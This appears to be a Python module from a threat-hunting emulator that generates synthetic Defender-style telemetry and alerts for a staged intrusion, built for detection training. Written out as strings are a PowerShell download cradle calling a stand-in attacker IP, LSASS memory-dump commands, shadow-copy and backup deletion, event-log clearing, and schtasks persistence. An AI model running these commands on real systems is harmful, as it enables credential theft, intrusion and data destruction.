"""The planted intrusion: phishing and a PowerShell cradle, LSASS dumping, a scheduled task, PsExec, ransomware."""

from __future__ import annotations

import base64
from datetime import timedelta

import orjson

from huntvault.emulator.catalog import DOMAIN_DNS, Proc, binary, dc_kerberos_logon
from huntvault.emulator.model import Device
from huntvault.emulator.storykit import (
    ATTACKER_HOST,
    ATTACKER_IP,
    MALICIOUS_SENDER,
    StoryContext,
    hidden_file,
    new_uuid,
)


def phish_powershell_cradle(ctx: StoryContext) -> None:
    """Phishing mail -> macro document -> encoded PowerShell -> download cradle -> payload on disk."""
    u, d = ctx.user, ctx.device
    t_mail = ctx.at(0)
    msg_id = new_uuid(ctx.rng)
    url = f"http://{ATTACKER_HOST}/invoice/INV-4821.docm"
    mail = {
        "NetworkMessageId": msg_id,
        "InternetMessageId": f"<{ctx.rng.getrandbits(64):x}@mail.example.com>",
        "SenderFromAddress": MALICIOUS_SENDER,
        "SenderMailFromAddress": MALICIOUS_SENDER,
        "SenderDisplayName": "Accounts Payable",
        "SenderFromDomain": "example.com",
        "SenderMailFromDomain": "example.com",
        "SenderIPv4": ATTACKER_IP,
        "RecipientEmailAddress": u.upn,
        "RecipientObjectId": u.object_id,
        "RecipientDomain": DOMAIN_DNS,
        "Subject": "Overdue invoice INV-4821 - action required",
        "EmailDirection": "Inbound",
        "DeliveryAction": "Delivered",
        "DeliveryLocation": "Inbox/folder",
        "LatestDeliveryAction": "Delivered",
        "LatestDeliveryLocation": "Inbox/folder",
        "ThreatTypes": "Malware, Phish",
        "ThreatNames": "TrojanDownloader:O97M/Donoff",
        "DetectionMethods": '{"Malware":["File detonation"]}',
        "AttachmentCount": 0,
        "UrlCount": 1,
        "EmailSize": 48_211,
        "EmailLanguage": "en",
        "ConfidenceLevel": '{"Phish":"High","Spam":null}',
        "AuthenticationDetails": '{"SPF":"fail","DKIM":"none","DMARC":"fail","CompAuth":"fail"}',
        "To": orjson.dumps([u.upn]).decode(),
        "Cc": "[]",
        "IsFirstContact": True,
        "BulkComplaintLevel": 0,
        "OrgLevelAction": "Allow",
        "EmailClusterId": ctx.rng.randint(10**9, 10**10),
    }
    ctx.emit("EmailEvents", t_mail, mail)
    ctx.emit(
        "EmailUrlInfo",
        t_mail,
        {"NetworkMessageId": msg_id, "Url": url, "UrlDomain": ATTACKER_HOST, "UrlLocation": "Body"},
    )
    ctx.emit(
        "UrlClickEvents",
        ctx.at(140),
        {
            "Url": url,
            "ActionType": "ClickAllowed",
            "AccountUpn": u.upn,
            "Workload": "Email",
            "NetworkMessageId": msg_id,
            "IPAddress": d.public_ip,
            "IsClickedThrough": True,
            "ThreatTypes": "Phish",
            "DetectionMethods": "",
            "UrlChain": orjson.dumps([url]).decode(),
            "AppName": "Outlook",
            "AppVersion": "16.0",
        },
    )
    ctx.emit(
        "IdentityLogonEvents",
        ctx.at(420),
        {
            "ActionType": "LogonSuccess",
            **dc_kerberos_logon(u, d.name, d.private_ip),
        },
    )
    explorer = ctx.proc("explorer.exe", ctx.at(-8 * 3600), r"C:\Windows\Explorer.EXE", None)
    outlook = ctx.proc("OUTLOOK.EXE", ctx.at(-7 * 3600), f'"{binary("OUTLOOK.EXE").path}" ', explorer)
    t_doc = ctx.at(150)
    word = ctx.proc(
        "WINWORD.EXE",
        t_doc,
        f'"{binary("WINWORD.EXE").path}" /n "C:\\Users\\{u.name}\\Downloads\\INV-4821.docm" /o ""',
        outlook,
    )
    ctx.process_created(word)
    script = f"IEX (New-Object Net.WebClient).DownloadString('http://{ATTACKER_IP}/a.ps1')"
    encoded = base64.b64encode(script.encode("utf-16-le")).decode()
    stage1 = ctx.proc(
        "powershell.exe",
        ctx.at(190),
        f"powershell.exe -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand {encoded}",
        word,
    )
    ctx.process_created(stage1)
    ctx.emit(
        "DeviceEvents",
        ctx.at(191),
        {
            "ActionType": "PowerShellCommand",
            **stage1.as_initiating(),
            "AdditionalFields": orjson.dumps({"Command": "IEX"}).decode(),
        },
    )
    byte_list = ",".join(str(b) for b in f"http://{ATTACKER_IP}/a.ps1".encode())
    stage2_cmd = (
        "powershell.exe -NoProfile -ExecutionPolicy Unrestricted -WindowStyle Hidden -Command "
        f'"$u=[Text.Encoding]::UTF8.GetString(@({byte_list})); IEX (New-Object Net.WebClient).DownloadString($u)"'
    )
    stage2 = ctx.proc("powershell.exe", ctx.at(193), stage2_cmd, stage1)
    ctx.process_created(stage2)
    for sec in (194, 196):
        ctx.emit(
            "DeviceNetworkEvents",
            ctx.at(sec),
            {
                "ActionType": "ConnectionSuccess",
                "RemoteIP": ATTACKER_IP,
                "RemotePort": 80,
                "RemoteUrl": f"http://{ATTACKER_IP}/a.ps1"
                if sec == 194
                else f"http://{ATTACKER_IP}/svchosts.exe",
                "LocalIP": d.private_ip,
                "LocalPort": ctx.rng.randint(49_152, 65_000),
                "Protocol": "Tcp",
                "LocalIPType": "Private",
                "RemoteIPType": "Public",
                **stage2.as_initiating(),
            },
        )
    for lib in ("amsi.dll", "clr.dll", "System.Management.Automation.ni.dll", "winhttp.dll"):
        b = binary(lib)
        ctx.emit(
            "DeviceImageLoadEvents",
            ctx.at(193.2),
            {
                "ActionType": "ImageLoaded",
                "FileName": b.file_name,
                "FolderPath": b.path,
                "SHA1": b.sha1,
                "SHA256": b.sha256,
                "MD5": b.md5,
                "FileSize": b.size,
                **stage2.as_initiating(),
            },
        )
    payload = binary("svchosts.exe")
    ctx.emit(
        "DeviceFileEvents",
        ctx.at(198),
        {
            "ActionType": "FileCreated",
            "FileName": payload.file_name,
            "FolderPath": payload.path,
            "SHA1": payload.sha1,
            "SHA256": payload.sha256,
            "MD5": payload.md5,
            "FileSize": payload.size,
            "FileOriginUrl": f"http://{ATTACKER_IP}/svchosts.exe",
            "FileOriginIP": ATTACKER_IP,
            **stage2.as_initiating(),
        },
    )
    implant = ctx.proc("svchosts.exe", ctx.at(205), f'"{payload.path}" -k netsvcs', stage2)
    ctx.process_created(implant)
    ctx.emit(
        "DeviceNetworkEvents",
        ctx.at(207),
        {
            "ActionType": "ConnectionSuccess",
            "RemoteIP": ATTACKER_IP,
            "RemotePort": 443,
            "RemoteUrl": ATTACKER_HOST,
            "LocalIP": d.private_ip,
            "LocalPort": ctx.rng.randint(49_152, 65_000),
            "Protocol": "Tcp",
            "LocalIPType": "Private",
            "RemoteIPType": "Public",
            **implant.as_initiating(),
        },
    )
    ctx.alert(
        title="Suspicious PowerShell download cradle",
        severity="Medium",
        category="Execution",
        description="A macro-enabled document launched an encoded PowerShell command that downloaded and ran a payload.",
        techniques={
            "T1059.001": "PowerShell",
            "T1105": "Ingress Tool Transfer",
            "T1027": "Obfuscated Files or Information",
            "T1566.002": "Spearphishing Link",
        },
        first=stage1.created,
        last=ctx.at(207),
        evidence=[
            ctx.ev_process(stage1, ctx.at(190)),
            ctx.ev_process(stage2, ctx.at(193)),
            ctx.ev_file(payload, ctx.at(198), threat="TrojanDownloader:PowerShell/Cradle"),
            ctx.ev_url(f"http://{ATTACKER_IP}/a.ps1", ctx.at(194)),
            ctx.ev_ip(ATTACKER_IP, ctx.at(194)),
            ctx.ev_user(u, ctx.at(190)),
        ],
    )


def lsass_credential_dump(ctx: StoryContext) -> None:
    """ProcDump and comsvcs.dll MiniDump of LSASS memory from an elevated prompt."""
    u = ctx.admin
    d = ctx.device
    cmd_parent = ctx.proc(
        "cmd.exe", ctx.at(0), '"C:\\Windows\\system32\\cmd.exe"', None, user=u, integrity="High"
    )
    whoami = ctx.proc("whoami.exe", ctx.at(20), "whoami  /priv", cmd_parent, user=u, integrity="High")
    ctx.process_created(whoami)
    tool = binary("procdump64.exe")
    ctx.emit(
        "DeviceFileEvents",
        ctx.at(40),
        {
            "ActionType": "FileCreated",
            "FileName": tool.file_name,
            "FolderPath": tool.path,
            "SHA1": tool.sha1,
            "SHA256": tool.sha256,
            "MD5": tool.md5,
            "FileSize": tool.size,
            **cmd_parent.as_initiating(),
        },
    )
    dump = ctx.proc(
        "procdump64.exe",
        ctx.at(60),
        r"procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\lsass.dmp",
        cmd_parent,
        user=u,
        integrity="High",
    )
    ctx.process_created(dump)
    lsass = binary("lsass.exe")
    ctx.emit(
        "DeviceEvents",
        ctx.at(61),
        {
            "ActionType": "OpenProcessApiCall",
            "FileName": lsass.file_name,
            "FolderPath": lsass.path,
            "SHA1": lsass.sha1,
            "SHA256": lsass.sha256,
            "ProcessId": 712,
            **dump.as_initiating(),
            "AdditionalFields": orjson.dumps({"DesiredAccess": 2035711}).decode(),
        },
    )
    dmp = hidden_file("lsass.dmp", r"C:\Windows\Temp", 52_428_800)
    ctx.emit(
        "DeviceFileEvents",
        ctx.at(64),
        {
            "ActionType": "FileCreated",
            "FileName": dmp.file_name,
            "FolderPath": dmp.path,
            "FileSize": dmp.size,
            **dump.as_initiating(),
        },
    )
    rundll = ctx.proc(
        "rundll32.exe",
        ctx.at(300),
        r"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 712 C:\Windows\Temp\debug.bin full",
        cmd_parent,
        user=u,
        integrity="High",
    )
    ctx.process_created(rundll)
    comsvcs = binary("comsvcs.dll")
    ctx.emit(
        "DeviceImageLoadEvents",
        ctx.at(300.1),
        {
            "ActionType": "ImageLoaded",
            "FileName": comsvcs.file_name,
            "FolderPath": comsvcs.path,
            "SHA1": comsvcs.sha1,
            "SHA256": comsvcs.sha256,
            "MD5": comsvcs.md5,
            "FileSize": comsvcs.size,
            **rundll.as_initiating(),
        },
    )
    ctx.emit(
        "DeviceEvents",
        ctx.at(301),
        {
            "ActionType": "OpenProcessApiCall",
            "FileName": lsass.file_name,
            "FolderPath": lsass.path,
            "SHA1": lsass.sha1,
            "ProcessId": 712,
            **rundll.as_initiating(),
            "AdditionalFields": orjson.dumps({"DesiredAccess": 2097151}).decode(),
        },
    )
    ctx.alert(
        title="Credential dumping activity observed: LSASS memory",
        severity="High",
        category="CredentialAccess",
        description=f"A process on {d.name} dumped the memory of lsass.exe, which may expose credentials.",
        techniques={"T1003.001": "LSASS Memory", "T1003": "OS Credential Dumping"},
        first=dump.created,
        last=ctx.at(301),
        evidence=[
            ctx.ev_process(dump, ctx.at(60)),
            ctx.ev_process(rundll, ctx.at(300)),
            ctx.ev_file(tool, ctx.at(40), role="Related"),
            ctx.ev_user(u, ctx.at(60)),
        ],
    )


def psexec_lateral_movement(ctx: StoryContext) -> None:
    """PsExec copies a payload to ADMIN$ shares of several machines and runs commands through PSEXESVC."""
    u = ctx.admin
    d = ctx.device
    targets = ctx.targets or (d,)
    # the copies land inside one 10-minute bin, the granularity hunting queries summarise by
    aligned = ctx.start.replace(second=0, microsecond=0)
    ctx.start = aligned + timedelta(minutes=(10 - aligned.minute % 10) % 10 + 1)
    cmd = ctx.proc("cmd.exe", ctx.at(-30), '"C:\\Windows\\system32\\cmd.exe"', None, user=u, integrity="High")
    shares = ("ADMIN$", r"C$\Windows\Temp", r"C$\ProgramData")
    payload = binary("update.exe")
    paths: list[tuple[Device, str]] = []
    for i in range(6):
        target = targets[i % len(targets)]
        share = shares[(i // len(targets)) % len(shares)]
        paths.append((target, f"\\\\{target.short_name}\\{share}"))
    psexec_procs: list[Proc] = []
    for i, (target, folder) in enumerate(paths):
        t = ctx.at(i * 20)
        p = ctx.proc(
            "PsExec.exe",
            t,
            f"PsExec.exe \\\\{target.short_name} -accepteula -s -c -f C:\\Users\\Public\\update.exe",
            cmd,
            user=u,
            integrity="High",
        )
        psexec_procs.append(p)
        ctx.process_created(p)
        ctx.emit(
            "DeviceFileEvents",
            ctx.at(i * 20 + 2),
            {
                "ActionType": "FileCreated",
                "FileName": payload.file_name,
                "FolderPath": f"{folder}\\{payload.file_name}",
                "SHA1": payload.sha1,
                "SHA256": payload.sha256,
                "MD5": payload.md5,
                "FileSize": payload.size,
                **p.as_initiating(),
            },
        )
        ctx.emit(
            "DeviceNetworkEvents",
            ctx.at(i * 20 + 1),
            {
                "ActionType": "ConnectionSuccess",
                "RemoteIP": target.private_ip,
                "RemotePort": 445,
                "LocalIP": d.private_ip,
                "LocalPort": ctx.rng.randint(49_152, 65_000),
                "Protocol": "Tcp",
                "LocalIPType": "Private",
                "RemoteIPType": "Private",
                **p.as_initiating(),
            },
        )
    # on the first target: the service side
    tgt = targets[0]
    svc_bin = binary("PSEXESVC.exe")
    services = ctx.proc(
        "services.exe", ctx.at(-86_000), r"C:\Windows\system32\services.exe", None, system=True
    )
    ctx.emit(
        "DeviceLogonEvents",
        ctx.at(1),
        {
            "ActionType": "LogonSuccess",
            "LogonType": "Network",
            "AccountDomain": u.domain.lower(),
            "AccountName": u.name,
            "AccountSid": u.sid,
            "Protocol": "NTLM",
            "IsLocalAdmin": True,
            "LogonId": 0x5A1F00 + ctx.rng.randrange(999),
            "RemoteDeviceName": d.short_name.upper(),
            "RemoteIP": d.private_ip,
            "RemoteIPType": "Private",
            "RemotePort": ctx.rng.randint(49_152, 65_000),
            "InitiatingProcessId": 4,
            "InitiatingProcessFileName": "System",
            "AdditionalFields": orjson.dumps({"IsLocalLogon": False}).decode(),
        },
        device=tgt,
    )
    ctx.emit(
        "DeviceFileEvents",
        ctx.at(3),
        {
            "ActionType": "FileCreated",
            "FileName": svc_bin.file_name,
            "FolderPath": svc_bin.path,
            "SHA1": svc_bin.sha1,
            "SHA256": svc_bin.sha256,
            "MD5": svc_bin.md5,
            "FileSize": svc_bin.size,
            "RequestProtocol": "SMB",
            "RequestSourceIP": d.private_ip,
            "RequestSourcePort": ctx.rng.randint(49_152, 65_000),
            "RequestAccountName": u.name,
            "RequestAccountDomain": u.domain,
            "RequestAccountSid": u.sid,
            "ShareName": "ADMIN$",
            "InitiatingProcessId": 4,
            "InitiatingProcessFileName": "System",
            "InitiatingProcessAccountSid": "S-1-5-18",
        },
        device=tgt,
    )
    svc = ctx.proc("PSEXESVC.exe", ctx.at(4), r"C:\Windows\PSEXESVC.exe", services, system=True)
    ctx.process_created(svc, tgt)
    ctx.emit(
        "DeviceEvents",
        ctx.at(4.5),
        {
            "ActionType": "NamedPipeEvent",
            **svc.as_initiating(),
            "AdditionalFields": orjson.dumps(
                {
                    "PipeName": f"\\Device\\NamedPipe\\PSEXESVC-{d.short_name.upper()}-"
                    f"{ctx.rng.randint(1000, 9999)}-stdin",
                    "FileOperation": "File created",
                    "NamedPipeEnd": "Server",
                    "PipeType": "Byte",
                }
            ).decode(),
        },
        device=tgt,
    )
    commands = [
        f"cmd.exe /c copy \\\\{d.short_name}\\C$\\Users\\Public\\update.exe C:\\Windows\\Temp\\update.exe",
        "cmd.exe /c whoami /all",
        'cmd.exe /c net group "Domain Admins" /domain',
        r"cmd.exe /c C:\Windows\Temp\update.exe --silent",
    ]
    children: list[Proc] = []
    for i, c in enumerate(commands):
        child = ctx.proc("cmd.exe", ctx.at(6 + i * 15), c, svc, system=True)
        children.append(child)
        ctx.process_created(child, tgt)
    ctx.alert(
        title="File dropped and launched from remote location",
        severity="Medium",
        category="LateralMovement",
        description=f"PsExec copied a file to {tgt.name} over SMB and launched it through the PSEXESVC service.",
        techniques={
            "T1021.002": "SMB/Windows Admin Shares",
            "T1569.002": "Service Execution",
            "T1570": "Lateral Tool Transfer",
        },
        first=ctx.at(1),
        last=ctx.at(6 + 3 * 15),
        device=tgt,
        evidence=[
            ctx.ev_file(svc_bin, ctx.at(3)),
            ctx.ev_process(svc, ctx.at(4)),
            ctx.ev_process(psexec_procs[0], ctx.at(0), role="Related"),
            ctx.ev_ip(d.private_ip, ctx.at(1)),
            ctx.ev_user(u, ctx.at(1)),
        ],
    )


def ransomware_encryption(ctx: StoryContext) -> None:
    """Shadow copy and backup deletion, event log clearing, mass renames to .hvlock and ransom notes."""
    d = ctx.device
    u = ctx.admin
    svc = ctx.proc("PSEXESVC.exe", ctx.at(-60), r"C:\Windows\PSEXESVC.exe", None, system=True)
    ransom = ctx.proc("update.exe", ctx.at(0), r"C:\Windows\Temp\update.exe --silent", svc, system=True)
    ctx.process_created(ransom)
    cmd_lines = [
        ("vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
        ("wmic.exe", "wmic.exe shadowcopy delete"),
        ("bcdedit.exe", "bcdedit.exe /set {default} recoveryenabled no"),
        ("bcdedit.exe", "bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures"),
        ("wbadmin.exe", "wbadmin.exe delete catalog -quiet"),
        ("wbadmin.exe", "wbadmin.exe delete systemstatebackup -keepVersions:0"),
    ]
    t = 5.0
    procs: list[Proc] = []
    for exe, line in cmd_lines:
        p = ctx.proc(exe, ctx.at(t), line, ransom, system=True)
        procs.append(p)
        ctx.process_created(p)
        t += 3.5
    logs = (
        "Application",
        "Security",
        "System",
        "Setup",
        "Windows PowerShell",
        "Microsoft-Windows-Sysmon/Operational",
        "Microsoft-Windows-TaskScheduler/Operational",
        "Microsoft-Windows-TerminalServices-LocalSessionManager/Operational",
        "Microsoft-Windows-PowerShell/Operational",
        "Microsoft-Windows-WMI-Activity/Operational",
        "Microsoft-Windows-Windows Defender/Operational",
        "Microsoft-Windows-SMBServer/Security",
    )
    for log in logs:
        p = ctx.proc("wevtutil.exe", ctx.at(t), f'wevtutil.exe cl "{log}"', ransom, system=True)
        ctx.process_created(p)
        t += 1.2
    folders = [
        f"C:\\Users\\{ctx.user.name}\\Documents",
        r"C:\Shares\Finance",
        r"C:\Shares\HR",
        r"C:\Shares\Projects",
    ]
    exts = (".docx", ".xlsx", ".pdf", ".pptx", ".csv")
    base_t = t + 10
    n = 240
    for i in range(n):
        folder = folders[i % len(folders)]
        name = f"{['report', 'budget', 'contract', 'minutes', 'plan', 'invoice'][i % 6]}_{2019 + i % 6}_{i:03d}{exts[i % 5]}"
        new = name + ".hvlock"
        ctx.emit(
            "DeviceFileEvents",
            ctx.at(base_t + i * 0.35),
            {
                "ActionType": "FileRenamed",
                "FileName": new,
                "FolderPath": f"{folder}\\{new}",
                "PreviousFileName": name,
                "PreviousFolderPath": f"{folder}\\{name}",
                "SHA1": f"{ctx.rng.getrandbits(160):040x}",
                "FileSize": ctx.rng.randint(20_000, 4_000_000),
                **ransom.as_initiating(),
            },
        )
    t_note = base_t + n * 0.35 + 2
    for j, folder in enumerate(folders):
        ctx.emit(
            "DeviceFileEvents",
            ctx.at(t_note + j),
            {
                "ActionType": "FileCreated",
                "FileName": "README_HOW_TO_RESTORE.txt",
                "FolderPath": f"{folder}\\README_HOW_TO_RESTORE.txt",
                "FileSize": 1_811,
                "SHA1": "4b8f5c3e1a9d2f7b6c0e8a1d3f5b7c9e2a4d6f80",
                **ransom.as_initiating(),
            },
        )
    last = ctx.at(t_note + len(folders))
    ctx.alert(
        title="File backups were deleted",
        severity="High",
        category="Impact",
        description=f"Shadow copies and the backup catalog were deleted on {d.name}, a common ransomware step.",
        techniques={"T1490": "Inhibit System Recovery", "T1070.001": "Clear Windows Event Logs"},
        first=procs[0].created,
        last=ctx.at(t),
        resolve=True,
        evidence=[
            ctx.ev_process(procs[0], procs[0].created),
            ctx.ev_process(procs[1], procs[1].created),
            ctx.ev_process(ransom, ransom.created, role="Related"),
        ],
    )
    ctx.alert(
        title="Ransomware behavior detected in the file system",
        severity="High",
        category="Ransomware",
        description=f"Hundreds of files on {d.name} were renamed with the extension .hvlock and ransom notes appeared.",
        techniques={"T1486": "Data Encrypted for Impact"},
        first=ctx.at(base_t),
        last=last,
        threat="Ransom:Win32/HuntLock",
        resolve=True,
        evidence=[
            ctx.ev_process(ransom, ransom.created),
            ctx.ev_file(ransom.binary, ransom.created, threat="Ransom:Win32/HuntLock"),
            ctx.ev_user(u, ransom.created),
        ],
    )


def scheduled_task_persistence(ctx: StoryContext) -> None:
    """A user-context schtasks.exe creates a logon task that runs the implant with highest privileges."""
    u = ctx.user
    implant = binary("svchosts.exe")
    ps = ctx.proc("powershell.exe", ctx.at(-5), "powershell.exe -NoP -W Hidden", None)
    task = r"\Microsoft\Windows\Maintenance\EdgeUpdateCore"
    cmd = f'schtasks.exe /create /tn "{task}" /tr "{implant.path}" /sc onlogon /rl highest /f'
    p = ctx.proc("schtasks.exe", ctx.at(0), cmd, ps)
    ctx.process_created(p)
    content = (
        f'<?xml version="1.0" encoding="UTF-16"?><Task><Triggers><LogonTrigger><Enabled>true</Enabled>'
        f"</LogonTrigger></Triggers><Principals><Principal><RunLevel>HighestAvailable</RunLevel></Principal>"
        f"</Principals><Actions><Exec><Command>{implant.path}</Command></Exec></Actions></Task>"
    )
    ctx.emit(
        "DeviceEvents",
        ctx.at(0.4),
        {
            "ActionType": "ScheduledTaskCreated",
            **p.as_initiating(),
            "AdditionalFields": orjson.dumps(
                {
                    "TaskName": task,
                    "TaskContent": content,
                    "SubjectUserName": u.name,
                    "SubjectDomainName": u.domain,
                }
            ).decode(),
        },
    )
    ctx.emit(
        "DeviceRegistryEvents",
        ctx.at(0.5),
        {
            "ActionType": "RegistryValueSet",
            "RegistryKey": "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree"
            "\\Microsoft\\Windows\\Maintenance\\EdgeUpdateCore",
            "RegistryValueType": "String",
            "RegistryValueName": "Id",
            "RegistryValueData": "{" + new_uuid(ctx.rng).upper() + "}",
            **p.as_initiating(),
        },
    )
    ctx.alert(
        title="Suspicious Task Scheduler activity",
        severity="Medium",
        category="Persistence",
        description="A scheduled task that runs a recently dropped unsigned executable at logon was created.",
        techniques={"T1053.005": "Scheduled Task"},
        first=p.created,
        last=ctx.at(0.5),
        evidence=[
            ctx.ev_process(p, p.created),
            ctx.ev_file(implant, p.created, role="Related"),
            ctx.ev_user(u, p.created),
        ],
    )


__all__ = [
    "lsass_credential_dump",
    "phish_powershell_cradle",
    "psexec_lateral_movement",
    "ransomware_encryption",
    "scheduled_task_persistence",
]
